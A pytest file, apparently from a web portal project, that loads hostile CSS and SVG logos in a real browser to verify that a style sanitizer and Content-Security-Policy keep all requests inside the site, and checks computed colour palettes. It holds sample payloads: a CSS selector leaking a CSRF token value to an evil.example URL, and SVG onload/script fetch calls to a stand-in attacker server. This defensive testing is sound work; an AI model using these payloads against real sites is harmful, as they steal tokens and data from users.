"""A hostile style sheet in a real browser that records every request, and the palettes as it computes them."""

from __future__ import annotations

import random
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page
from test_branding import LOADING

from portal.styles.branding import Brand
from portal.styles.contrast import Palette, palettes
from portal.styles.css import check_css
from portal.styles.pictures import checked

TOKENS = Path(__file__).parent.parent / "portal" / "static" / "tokens.css"
POLICY = "default-src 'none'; style-src 'self'; img-src 'self' data:; font-src 'self'"


@dataclass
class Site:
    """A web server with the pages it is given; remembers the paths it was asked for."""

    pages: dict[str, tuple[str, str, str]] = field(default_factory=dict)
    asked: list[str] = field(default_factory=list)
    url: str = ""

    def put(self, path: str, body: str, kind: str = "text/html", policy: str = "") -> str:
        self.pages[path] = (body, kind, policy)
        return self.url + path


@pytest.fixture
def start_site() -> Iterator[Callable[[], Site]]:
    servers: list[ThreadingHTTPServer] = []

    def start() -> Site:
        site = Site()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.asked.append(self.path)
                body, kind, policy = site.pages.get(self.path, ("", "text/plain", ""))
                self.send_response(200 if self.path in site.pages else 404)
                self.send_header("Content-Type", kind)
                if policy:
                    self.send_header("Content-Security-Policy", policy)
                self.end_headers()
                self.wfile.write(body.encode())

            def log_message(self, *_args) -> None:
                pass

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        servers.append(server)
        site.url = f"http://127.0.0.1:{server.server_port}"
        return site

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def page(browser: Browser) -> Iterator[Page]:
    opened = browser.new_page()
    yield opened
    opened.close()


BODY = (
    '<link rel="stylesheet" href="/t.css">'
    '<main><a href="#">A link</a><b>bold</b><input name="csrf" value="s3cret"></main>'
)


def visit(page: Page, site: Site, css: str, policy: str = "") -> None:
    """Show a page that carries `css`, and wait until nothing is loading any more."""
    site.put("/t.css", css, "text/css")
    page.goto(site.put("/", BODY, policy=policy), wait_until="networkidle")


def hostile(evil: Site) -> str:
    """One sheet of everything in the catalogue, and a selector that spies on a field."""
    sheets = [*LOADING, "input[name=csrf][value^=s]{background:url(https://evil.example/leak)}"]
    imports = [text for text in sheets if text.startswith("@") and "import" in check_css(text).removed[0]]
    closed = [text for text in sheets if text.endswith(("}", ";")) and text not in imports]
    return "\n".join(imports + closed).replace("https://evil.example", evil.url).replace("//evil.example", evil.url[5:])


@pytest.mark.case("B1")
@pytest.mark.case("B2")
def test_either_wall_alone_keeps_every_request_inside(page, start_site):
    site, evil = start_site(), start_site()
    text = hostile(evil)

    visit(page, site, check_css(text).text)
    assert evil.asked == []
    visit(page, site, text, POLICY)
    assert evil.asked == []

    visit(page, site, text)
    assert {"/x", "/x.css", "/leak"} <= set(evil.asked)


@pytest.mark.case("B1")
def test_each_spelling_in_a_sheet_of_its_own(page, start_site):
    site, evil = start_site(), start_site()
    links = ""
    for number, text in enumerate(LOADING):
        site.put(f"/{number}.css", check_css(text.replace("https://evil.example", evil.url)).text, "text/css")
        links += f'<link rel="stylesheet" href="/{number}.css">'
    page.goto(site.put("/", links + BODY), wait_until="networkidle")
    assert f"/{len(LOADING) - 1}.css" in site.asked
    assert evil.asked == []


@pytest.mark.case("B7")
def test_a_logo_drawn_with_classes_is_shown_and_runs_nothing(page, start_site):
    site, evil = start_site(), start_site()
    raw = (
        f'<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload="fetch(\'{evil.url}/x\')">'
        f'<style>.a{{fill:#ff0000}}</style><script>fetch("{evil.url}/x")</script>'
        f'<image href="{evil.url}/x"/><rect class="a" width="8" height="8"/></svg>'
    )
    policy = "default-src 'none'; style-src 'unsafe-inline'; sandbox"
    site.put("/logo", checked(raw.encode()).body.decode(), "image/svg+xml", policy)
    page.goto(site.put("/", '<img src="/logo" width="8" height="8">'), wait_until="networkidle")
    pixel = page.evaluate(
        """() => { const c = document.createElement('canvas'); c.width = c.height = 8; const x = c.getContext('2d');
        x.drawImage(document.querySelector('img'), 0, 0); return [...x.getImageData(4, 4, 1, 1).data]; }"""
    )
    assert pixel == [255, 0, 0, 255]
    page.goto(site.url + "/logo", wait_until="networkidle")
    assert evil.asked == []

    page.goto(site.put("/raw", raw, "image/svg+xml"), wait_until="networkidle")
    assert "/x" in evil.asked


NAMES = {
    "canvas": "canvas", "surface": "surface", "raised": "raised", "sunken": "sunken", "text": "text", "muted": "muted",
    "edge": "edge", "primary": "primary", "on_primary": "on-primary", "primary_over": "primary-over", "link": "link",
    "here": "here",
}  # fmt: skip

READ = """(names) => { const c = document.createElement('canvas').getContext('2d', {willReadFrequently: true});
  return Object.fromEntries(['light', 'dark'].map(theme => { document.documentElement.dataset.theme = theme;
    return [theme, Object.fromEntries(Object.entries(names).map(([key, name]) => {
      const probe = document.createElement('i'); probe.style.color = `var(--${name})`; document.body.append(probe);
      c.fillStyle = getComputedStyle(probe).color; c.fillRect(0, 0, 1, 1); probe.remove();
      return [key, [...c.getImageData(0, 0, 1, 1).data].slice(0, 3)]; }))]; })); }"""


@pytest.mark.feature("P2-49")
def test_the_browser_derives_the_shades_that_the_report_speaks_of(page, start_site):
    site = start_site()
    rng = random.Random(11)
    chosen = [tuple(f"#{rng.randrange(1 << 24):06x}" for _ in range(3)) for _ in range(20)]
    for palette in [*chosen, ("#ffd60a", "#7a1fa2", "#eef3fb"), ("#050505", "#ffffff", "#808080")]:
        brand = Brand("x", *palette)
        site.put("/t.css", TOKENS.read_text() + brand.colors, "text/css")
        page.goto(site.put("/", BODY))
        seen = page.evaluate(READ, NAMES)
        for theme, expected in zip(("light", "dark"), palettes(brand), strict=True):
            differences = compare(seen[theme], expected)
            assert not differences, (palette, theme, differences)


def compare(seen: dict[str, list[int]], expected: Palette) -> dict[str, tuple[object, str]]:
    """The shades that differ visibly: by more than three steps of a component."""
    found = {}
    for name, components in seen.items():
        own = getattr(expected, name).hex
        ours = [int(own[at : at + 2], 16) for at in (1, 3, 5)]
        if max(abs(a - b) for a, b in zip(components, ours, strict=True)) > 3:
            found[name] = (components, own)
    return found
